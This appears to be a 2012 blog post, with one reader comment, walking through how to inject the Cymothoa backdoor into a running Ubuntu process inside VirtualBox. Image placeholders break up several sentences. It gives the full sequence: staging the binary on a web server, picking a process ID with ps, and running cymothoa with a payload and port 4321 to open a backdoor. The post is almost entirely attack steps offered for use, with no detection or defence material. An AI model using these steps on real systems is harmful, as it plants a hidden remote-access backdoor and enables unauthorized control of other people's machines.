Monday, January 30, 2012

Injecting Cymothoa to Ubuntu

Cymothoa is a backdoor that can inject itself into the running process.

Here's a way to Inject a cymothoa backdoor to ubuntu in virtualbox.

1. I will use a webserver in /var/www to transfer the cymothoa to ubuntu.
# cd /var/www
# mkdir cymo
# cp /pentest/backdoors/cymothoa/cymothoa /var/www/

2. Lets open ouraddress in ubuntu.
3. Download the 'cymothoa' file. The one with no extension.

4. Lets see whatprocesses are running for us to be injected with cymothoa.
# ps ax

5. Ok, I'll inject it with the gnome-power-manager (PID 1154). Type thecommand.
# sudo ./cymothoa -p 1154 -s 0 -y 4321

Thats it, now the systemhas been injected with our cymothoabackdoor.

Hope this helps..  :)
More updates coming soon.

Lets make theHistory!!


adhy said...makasih gan

Post a Comment